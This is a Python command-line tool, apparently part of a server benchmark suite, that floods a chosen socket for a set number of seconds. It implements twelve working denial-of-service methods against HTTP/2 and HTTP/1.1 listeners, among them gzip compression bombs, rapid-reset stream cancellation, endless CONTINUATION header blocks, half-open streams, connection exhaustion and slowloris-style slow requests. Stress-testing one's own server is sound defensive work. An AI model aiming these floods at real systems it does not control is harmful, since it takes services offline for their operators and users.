"""`python -m benches.floods.attack FLOOD ADDRESS`: flood a socket for some seconds, as fast as one process can.

It prints how many acts it carried out: bombs, streams, connections, header frames, calls, requests.
"""

from __future__ import annotations

import gzip
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from enum import StrEnum
from functools import partial
from typing import Annotated

import typer

from benches.floods import wire

BOMB_MIB = 60
"""The size of an expanded bomb. As sent, a bomb fits a stream's first window."""
CONNECTIONS = 3
STREAMS = 10_000
CANCEL = (8).to_bytes(4, "big")
MANY_CONNECTIONS = 60
MANY_STREAMS = 600
"""More than a connection may have, on almost as many connections as a listener may have."""


class Kind(StrEnum):
    """What is sent."""

    BOMBS = "bombs"
    HALF_OPEN = "half-open"
    HALF_OPEN_WIDE = "half-open-wide"
    FRAMES = "frames"
    RESETS = "resets"
    CONNECTIONS = "connections"
    HANDSHAKES = "handshakes"
    HEADERS = "headers"
    CALLS = "calls"
    GARBAGE = "garbage"
    SLOW = "slow"
    SCRAPES = "scrapes"


def bombs(address: str, path: str, *, tls: bool) -> Iterator[int]:
    """Compressed messages, each sent when the one before was answered."""
    bomb = gzip.compress(bytes(BOMB_MIB * 2**20), 9)
    assert len(bomb) < wire.WINDOW - 5
    while True:
        connection = wire.Connection(address, tls=tls)
        with suppress(OSError):
            window, sent = wire.WINDOW, 0
            connection.send(wire.call(path, bomb, connection.stream(), compressed=True))
            window -= len(bomb) + 5
            for frame in connection.frames():
                if frame.kind == wire.WINDOW_UPDATE and frame.stream == 0:
                    window += int.from_bytes(frame.payload, "big")
                if frame.kind == wire.GOAWAY:
                    break
                if frame.stream and frame.flags & wire.END_STREAM and window > len(bomb) + 5:
                    sent += 1
                    yield 1
                    connection.send(wire.call(path, bomb, connection.stream(), compressed=True))
                    window -= len(bomb) + 5
                if sent == 1000:
                    break
        connection.close()


def half_open(
    address: str, path: str, *, tls: bool, number: int = CONNECTIONS, streams_each: int = STREAMS
) -> Iterator[int]:
    """Headers of calls whose message never comes."""
    block = wire.request_headers(path)
    while True:
        with opened(address, tls=tls, number=number) as held:
            for _ in range(streams_each // 100):
                for connection in held:
                    streams = [connection.stream() for _ in range(100)]
                    with suppress(OSError):
                        _drain(connection)
                        connection.send(
                            b"".join(wire.frame(wire.HEADERS, wire.END_HEADERS, each, block) for each in streams)
                        )
                        yield len(streams)
            until = time.monotonic() + 1.0
            while time.monotonic() < until:
                for connection in held:
                    with suppress(OSError):
                        _drain(connection)
                time.sleep(0.05)
                yield 0


def frames(address: str, _path: str, *, tls: bool) -> Iterator[int]:
    """Frames of HTTP/2's own, which the peer must acknowledge."""
    yield from _written(address, tls, lambda _: wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", 4, wire.WINDOW)))


def resets(address: str, path: str, *, tls: bool) -> Iterator[int]:
    """Calls that their caller takes back at once."""
    block = wire.request_headers(path)

    def taken_back(connection: wire.Connection) -> bytes:
        stream = connection.stream()
        begun = wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block)
        return begun + wire.frame(wire.RST_STREAM, 0, stream, CANCEL)

    yield from _written(address, tls, taken_back)


def _written(address: str, tls: bool, make: Callable[[wire.Connection], bytes]) -> Iterator[int]:
    """Write what `make` returns, 100 times at once, on each connection until the peer closes it."""
    while True:
        with opened(address, tls=tls) as held:
            while held:
                for connection in [*held]:
                    try:
                        _drain(connection)
                        connection.send(b"".join(make(connection) for _ in range(100)))
                        yield 100
                    except OSError:
                        held.remove(connection)
                        connection.close()
        yield 0


def connections(address: str, _path: str, *, tls: bool) -> Iterator[int]:
    """Connections that say nothing, or begin TLS and do not go on; up to 500 are held open."""
    hello = wire.client_hello() if tls else b""
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            made = wire.dial(address)
            if hello:
                made.sendall(hello)
            held.append(made)
            yield 1
        if len(held) > 500:
            held.pop(0).close()


def handshakes(address: str, _path: str, *, tls: bool) -> Iterator[int]:
    """Makes whole handshakes, and then closes each connection."""
    while True:
        with suppress(OSError):
            wire.Connection(address, tls=tls).close()
        yield 1


def headers(address: str, path: str, *, tls: bool) -> Iterator[int]:
    """Header blocks that do not end."""
    piece = wire.frame(wire.CONTINUATION, 0, 1, wire.field(b"x-more", b"y" * 10_000))
    while True:
        with opened(address, tls=tls) as held:
            for connection in held:
                with suppress(OSError):
                    connection.send(wire.frame(wire.HEADERS, 0, 1, wire.request_headers(path)))
            for _ in range(2_000):
                for connection in [*held]:
                    try:
                        connection.send(piece)
                        yield 1
                    except OSError:
                        held.remove(connection)
                if not held:
                    break


def calls(address: str, path: str, *, tls: bool) -> Iterator[int]:
    """Calls without a credential, 16 of them under way on each connection."""
    while True:
        with opened(address, tls=tls) as held:
            for _ in range(1_000):
                for connection in [*held]:
                    streams = [connection.stream() for _ in range(16)]
                    try:
                        connection.send(b"".join(wire.call(path, b"", each) for each in streams))
                        yield answered(connection, len(streams))
                    except OSError:
                        held.remove(connection)
                if not held:
                    break


def garbage(address: str, _path: str, *, tls: bool) -> Iterator[int]:
    """Bytes that are no request, a connection for each."""
    junk = os.urandom(4096).replace(b"\r", b"x")
    while True:
        with suppress(OSError):
            made = wire.dial(address, 1.0)
            made.sendall(junk * 4)
            made.close()
        yield 1


def slow(address: str, _path: str, *, tls: bool) -> Iterator[int]:
    """Requests that come byte by byte, 200 at a time."""
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            while len(held) < 200:
                held.append(wire.dial(address, 1.0))
                held[-1].sendall(b"GET /metrics HTTP/1.1\r\n")
                yield 1
        for each in [*held]:
            try:
                each.sendall(b"x")
            except OSError:
                held.remove(each)
        time.sleep(0.05)


def scrapes(address: str, _path: str, *, tls: bool) -> Iterator[int]:
    """Whole requests for the metrics, one after the other."""
    while True:
        with suppress(OSError):
            made = wire.dial(address, 1.0)
            made.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
            while made.recv(65_536):
                pass
            made.close()
        yield 1


def answered(connection: wire.Connection, most: int) -> int:
    """Read until `most` calls are answered or the peer goes away. Returns how many were answered."""
    done = 0
    for frame in connection.frames():
        done += bool(frame.stream and (frame.flags & wire.END_STREAM or frame.kind == wire.RST_STREAM))
        if done >= most or frame.kind == wire.GOAWAY:
            break
    return done


@contextmanager
def opened(address: str, *, tls: bool, number: int = CONNECTIONS) -> Iterator[list[wire.Connection]]:
    """Connections that are held until the block ends, fewer if the listener refuses some."""
    held: list[wire.Connection] = []
    for _ in range(number):
        with suppress(OSError):
            held.append(wire.Connection(address, tls=tls))
    yield held
    for connection in held:
        connection.close()


def _drain(connection: wire.Connection) -> None:
    """Throw away what has come."""
    while select.select([connection.socket], [], [], 0)[0]:
        if not connection.socket.recv(1 << 20):
            raise ConnectionError


FLOODS: dict[Kind, Callable[..., Iterator[int]]] = {
    Kind.BOMBS: bombs,
    Kind.HALF_OPEN: half_open,
    Kind.HALF_OPEN_WIDE: partial(half_open, number=MANY_CONNECTIONS, streams_each=MANY_STREAMS),
    Kind.FRAMES: frames,
    Kind.RESETS: resets,
    Kind.CONNECTIONS: connections,
    Kind.HANDSHAKES: handshakes,
    Kind.HEADERS: headers,
    Kind.CALLS: calls,
    Kind.GARBAGE: garbage,
    Kind.SLOW: slow,
    Kind.SCRAPES: scrapes,
}


def main(
    kind: Kind,
    address: str,
    seconds: float = 5.0,
    path: str = wire.CHECK,
    tls: bool = False,
    cpu: Annotated[int, typer.Option(help="The only processor to run on; -1: any.")] = -1,
) -> None:
    """Flood one socket."""
    if cpu >= 0:
        os.sched_setaffinity(0, {cpu})
    until, done = time.monotonic() + seconds, 0
    for count in FLOODS[kind](address, path, tls=tls):
        done += count
        if time.monotonic() > until:
            break
    sys.stdout.write(f"{done}\n")


if __name__ == "__main__":
    typer.run(main)
